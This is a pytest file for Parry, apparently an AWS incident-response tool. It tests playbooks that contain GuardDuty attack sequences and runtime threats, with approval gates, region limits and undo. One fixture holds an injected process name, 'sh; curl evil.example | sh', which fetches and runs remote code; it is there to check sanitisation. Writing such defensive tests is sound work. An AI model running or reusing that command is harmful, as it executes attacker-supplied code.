"""Rehearsals of guardduty-attack-sequence, ec2-runtime-threat, ecs-runtime-threat and eks-threat on moto.

No published attack sequence keeps its `service.detection.sequence` block (tests/events/SOURCES.md):
the real fixture is completed here with resources in the shape AWS documents for it (ResourceV2:
`uid`, `resourceType`, `accountId`, `region`), each pointed at a resource the test creates. The
runtime findings are GuardDuty's documented format pointed at resources the test creates.
"""

from __future__ import annotations

import json

import pytest

from parry.config import Settings
from parry.engine.run import Engine
from parry.engine.undo import undo
from parry.local.sandbox import guardduty_finding_in_security_hub
from parry.playbooks.validate import load_file
from parry.store import model as cs
from tests.support.decisions import approve, deny
from tests.support.findings import registered
from tests.support.paths import ROOT
from tests.support.routing import finding, load, routes

SEQUENCE = "guardduty/attacksequence-iam-compromisedcredentials.bare.json"
OUTSIDE = "ap-southeast-2"


def book(name: str):
    return load_file(ROOT / "playbooks" / f"{name}.yaml")


def launch(aws, region: str) -> str:
    ec2 = aws.client("ec2", region)
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24")["Subnet"]["SubnetId"]
    return ec2.run_instances(ImageId=image, MinCount=1, MaxCount=1, InstanceType="t3.micro", SubnetId=subnet)[
        "Instances"
    ][0]["InstanceId"]


def groups(aws, region: str, instance_id: str) -> list[str]:
    found = aws.client("ec2", region).describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]
    return sorted(g["GroupId"] for eni in found["NetworkInterfaces"] for g in eni["Groups"])


def key_status(aws, user: str) -> str:
    return aws.client("iam").list_access_keys(UserName=user)["AccessKeyMetadata"][0]["Status"]


@pytest.fixture
def sequence(aws, parry_env, monkeypatch):
    """An attack sequence naming an IAM user's key, an eu-west-1 instance and a bucket outside PARRY_REGIONS."""
    monkeypatch.setenv("PARRY_REGIONS", "us-east-1,eu-west-1")
    iam = aws.client("iam")
    iam.create_user(UserName="alice")
    key = iam.create_access_key(UserName="alice")["AccessKey"]["AccessKeyId"]
    instance, decoy = launch(aws, "eu-west-1"), launch(aws, "us-east-1")
    aws.client("s3", OUTSIDE).create_bucket(
        Bucket="far-data", CreateBucketConfiguration={"LocationConstraint": OUTSIDE}
    )
    event = load(SEQUENCE)
    account = aws.client("sts").get_caller_identity()["Account"]
    event["account"] = event["detail"]["accountId"] = account
    event["detail"]["service"]["detection"] = {
        "sequence": {
            "uid": "seq-1",
            "resources": [
                {"uid": key, "resourceType": "ACCESS_KEY", "accountId": account, "region": "us-east-1"},
                {"uid": instance, "resourceType": "EC2_INSTANCE", "accountId": account, "region": "eu-west-1"},
                {"uid": "far-data", "resourceType": "S3_BUCKET", "accountId": account, "region": OUTSIDE},
            ],
        }
    }
    return {
        "engine": Engine(aws, Settings.from_env()),
        "event": registered(aws, event),
        "key": key,
        "instance": instance,
        "decoy": decoy,
    }


def test_an_attack_sequence_waits_for_approval_then_contains_each_resource_where_it_is_and_undoes(aws, sequence):
    engine, event = sequence["engine"], sequence["event"]
    assert routes(event) == {"guardduty-attack-sequence"}
    before, decoy = groups(aws, "eu-west-1", sequence["instance"]), groups(aws, "us-east-1", sequence["decoy"])

    case = engine.run(book("guardduty-attack-sequence"), event)

    assert case.status == cs.AWAITING_APPROVAL and case.awaiting["step"] == "contain"
    assert key_status(aws, "alice") == "Active" and groups(aws, "eu-west-1", sequence["instance"]) == before

    approve(engine, case.case_id, who="arn:aws:iam::123456789012:user/bob", reason="the plan is right")
    case = engine.resume(case.case_id, book("guardduty-attack-sequence"))

    contain = next(s for s in case.steps if s.step_id == "contain")
    assert case.status == cs.COMPLETED_WITH_ERRORS, [(s.step_id, s.error) for s in case.steps]
    assert contain.status == "not_contained"
    # the bucket outside PARRY_REGIONS is refused by name, and only it
    (refused,) = contain.unmet
    assert "AwsS3Bucket far-data" in refused and f"{OUTSIDE} is outside the regions Parry acts in" in refused
    assert {p["status"] for p in contain.output["parts"]} == {"succeeded"}
    # read back where each resource is: the key (IAM), the eu-west-1 instance; nothing in us-east-1
    assert key_status(aws, "alice") == "Inactive"
    assert groups(aws, "eu-west-1", sequence["instance"]) != before
    assert groups(aws, "us-east-1", sequence["decoy"]) == decoy
    s3 = aws.client("s3", OUTSIDE)
    with pytest.raises(s3.exceptions.ClientError):
        s3.get_public_access_block(Bucket="far-data")  # untouched

    undone = undo(engine, case.case_id, who="arn:aws:iam::123456789012:user/carol", reason="false positive")

    assert undone.status == cs.UNDONE, [(s.step_id, s.error) for s in undone.steps]
    assert key_status(aws, "alice") == "Active"
    assert groups(aws, "eu-west-1", sequence["instance"]) == before


def test_the_plan_of_an_attack_sequence_lists_each_resources_calls_in_its_place(aws, sequence):
    plan = sequence["engine"].plan(book("guardduty-attack-sequence"), sequence["event"])

    contain = next(s for s in plan.steps if s.step_id == "contain")
    assert contain.approval and contain.will_run
    assert any("iam:UpdateAccessKey" in c for c in contain.calls)
    assert any("ec2:ModifyNetworkInterfaceAttribute" in c for c in contain.calls)
    parts = {p["type"]: p for p in contain.state["resources"]}
    assert parts["AwsEc2Instance"]["region"] == "eu-west-1" and "action" in parts["AwsEc2Instance"]
    assert "outside the regions Parry acts in" in parts["AwsS3Bucket"]["refused"]


def test_the_real_fixture_without_its_sequence_block_runs_no_containment(aws, parry_env):
    event = load(SEQUENCE)
    event["account"] = event["detail"]["accountId"] = aws.client("sts").get_caller_identity()["Account"]
    engine = Engine(aws, Settings.from_env())

    case = engine.run(book("guardduty-attack-sequence"), registered(aws, event))

    assert next(s for s in case.steps if s.step_id == "contain").status == "skipped"


# ---- Runtime Monitoring --------------------------------------------------------------------------


@pytest.fixture
def fargate_task(aws, parry_env):
    """A Fargate task in eu-west-1 (its own network interface) and a GuardDuty ReverseShell finding on it."""
    ec2, ecs = aws.client("ec2", "eu-west-1"), aws.client("ecs", "eu-west-1")
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24")["Subnet"]["SubnetId"]
    web = ec2.create_security_group(GroupName="web", Description="web", VpcId=vpc)["GroupId"]
    ecs.create_cluster(clusterName="prod")
    ecs.register_task_definition(
        family="api",
        networkMode="awsvpc",
        requiresCompatibilities=["FARGATE"],
        cpu="256",
        memory="512",
        containerDefinitions=[{"name": "api", "image": "public.ecr.aws/nginx/nginx:latest", "memory": 512}],
    )
    task = ecs.run_task(
        cluster="prod",
        taskDefinition="api",
        launchType="FARGATE",
        networkConfiguration={"awsvpcConfiguration": {"subnets": [subnet], "securityGroups": [web]}},
    )["tasks"][0]["taskArn"]
    event = finding(
        "Execution:Runtime/ReverseShell",
        "ECSCluster",
        8,
        {
            "ecsClusterDetails": {
                "name": "prod",
                "arn": "arn:aws:ecs:eu-west-1:123456789012:cluster/prod",
                "taskDetails": {"arn": task, "definitionArn": "api:1", "launchType": "FARGATE"},
            }
        },
    )
    event["detail"]["region"] = "eu-west-1"
    guardduty_finding_in_security_hub(aws, event)
    return {"event": registered(aws, event), "task": task, "web": web, "ecs": ecs, "ec2": ec2}


def task_groups(found: dict) -> list[str]:
    task = found["ecs"].describe_tasks(cluster="prod", tasks=[found["task"]])["tasks"][0]
    eni = next(d["value"] for a in task["attachments"] for d in a["details"] if d["name"] == "networkInterfaceId")
    interface = found["ec2"].describe_network_interfaces(NetworkInterfaceIds=[eni])["NetworkInterfaces"][0]
    return sorted(g["GroupId"] for g in interface["Groups"])


def test_ecs_runtime_threat_captures_isolates_the_tasks_interface_and_stops_it_only_on_approval(
    aws, monkeypatch, parry_env, fargate_task
):
    monkeypatch.setenv("PARRY_REGIONS", "us-east-1,eu-west-1")
    engine = Engine(aws, Settings.from_env())
    assert routes(fargate_task["event"]) == {"ecs-runtime-threat"}

    case = engine.run(book("ecs-runtime-threat"), fargate_task["event"])

    assert case.status == cs.AWAITING_APPROVAL and case.awaiting["step"] == "stop-task", case.steps
    assert case.region == "eu-west-1"
    (isolation,) = task_groups(fargate_task)
    assert isolation != fargate_task["web"]  # the interface is in the empty isolation group, read back there
    group = fargate_task["ec2"].describe_security_groups(GroupIds=[isolation])["SecurityGroups"][0]
    assert group["GroupName"] == "parry-isolation" and not group["IpPermissions"] + group["IpPermissionsEgress"]
    capture = next(s for s in case.steps if s.step_id == "capture-task")
    stored = aws.client("s3").get_object(
        Bucket=parry_env["PARRY_EVIDENCE_BUCKET"], Key=capture.output["artifact"]["key"]
    )
    captured = json.loads(stored["Body"].read())
    assert captured["task_definition"]["taskDefinition"]["family"] == "api"
    assert captured["task"]["taskArn"] == fargate_task["task"]
    running = fargate_task["ecs"].describe_tasks(cluster="prod", tasks=[fargate_task["task"]])["tasks"][0]
    assert running["desiredStatus"] == "RUNNING"  # not stopped before a person approves

    approve(engine, case.case_id, who="arn:aws:iam::123456789012:user/bob")
    case = engine.resume(case.case_id, book("ecs-runtime-threat"))

    assert case.status == cs.SUCCEEDED, [(s.step_id, s.error) for s in case.steps]
    stopped = fargate_task["ecs"].describe_tasks(cluster="prod", tasks=[fargate_task["task"]])["tasks"][0]
    assert "STOPPED" in (stopped["lastStatus"], stopped["desiredStatus"])
    assert not aws.client("ecs", "us-east-1").list_clusters()["clusterArns"]  # nothing made in us-east-1


def test_undoing_an_ecs_isolation_after_the_stop_is_denied_puts_the_interface_back(
    aws, monkeypatch, parry_env, fargate_task
):
    monkeypatch.setenv("PARRY_REGIONS", "us-east-1,eu-west-1")
    engine = Engine(aws, Settings.from_env())
    case = engine.run(book("ecs-runtime-threat"), fargate_task["event"])
    deny(engine, case.case_id, who="arn:aws:iam::123456789012:user/bob", reason="keep it running")

    undone = undo(engine, case.case_id, who="arn:aws:iam::123456789012:user/carol", reason="false positive")

    assert undone.status == cs.UNDONE, [(s.step_id, s.error) for s in undone.steps]
    assert task_groups(fargate_task) == [fargate_task["web"]]


def test_eks_threat_captures_the_cluster_and_changes_nothing(aws, parry_env):
    eks = aws.client("eks")
    eks.create_cluster(
        name="prod",
        roleArn="arn:aws:iam::123456789012:role/eks",
        resourcesVpcConfig={"subnetIds": [], "securityGroupIds": []},
    )
    event = load("guardduty/persistence-kubernetes-successfulanonymousaccess.bare.json")
    event["detail"]["resource"]["eksClusterDetails"]["name"] = "prod"
    event["account"] = event["detail"]["accountId"] = "123456789012"
    engine = Engine(aws, Settings.from_env())
    guardduty_finding_in_security_hub(aws, event)

    case = engine.run(book("eks-threat"), registered(aws, event))

    assert case.status == cs.SUCCEEDED, [(s.step_id, s.error) for s in case.steps]
    capture = next(s for s in case.steps if s.step_id == "capture-cluster")
    stored = aws.client("s3").get_object(
        Bucket=parry_env["PARRY_EVIDENCE_BUCKET"], Key=capture.output["artifact"]["key"]
    )
    assert json.loads(stored["Body"].read())["cluster"]["name"] == "prod"
    assert eks.describe_cluster(name="prod")["cluster"]["status"] == "ACTIVE"


def test_ec2_runtime_threat_isolates_the_instance_with_the_process_fields_kept_out_of_the_notice(aws, parry_env):
    instance = launch(aws, "us-east-1")
    before = groups(aws, "us-east-1", instance)
    event = finding("Execution:Runtime/ReverseShell", "Instance", 8, {"instanceDetails": {"instanceId": instance}})
    event["detail"]["service"]["runtimeDetails"] = {"process": {"name": "sh; curl evil.example | sh", "pid": 7}}
    engine = Engine(aws, Settings.from_env())
    assert routes(event) == {"ec2-runtime-threat"}
    guardduty_finding_in_security_hub(aws, event)

    case = engine.run(book("ec2-runtime-threat"), registered(aws, event))

    assert case.status == cs.SUCCEEDED, [(s.step_id, s.error) for s in case.steps]
    assert groups(aws, "us-east-1", instance) != before
    assert "curl" not in str(case.target)


def test_ec2_runtime_threat_from_security_hub_v2_isolates_the_instance_it_names(aws, parry_env):
    instance = launch(aws, "us-east-1")
    before = groups(aws, "us-east-1", instance)
    event = load("securityhub-v2/guardduty-runtime-newbinaryexecuted-ec2-ocsf.bare.json")
    (resource,) = event["detail"]["findings"][0]["resources"]
    resource["uid"] = resource["data"]["instance_id"] = instance
    engine = Engine(aws, Settings.from_env())
    assert routes(event) == {"ec2-runtime-threat"}

    case = engine.run(book("ec2-runtime-threat"), registered(aws, event))

    assert case.status == cs.SUCCEEDED, [(s.step_id, s.error) for s in case.steps]
    assert case.target["instance"] == instance and groups(aws, "us-east-1", instance) != before
    assert next(s for s in case.steps if s.step_id == "mark-finding").status == "skipped"  # no GuardDuty ARN
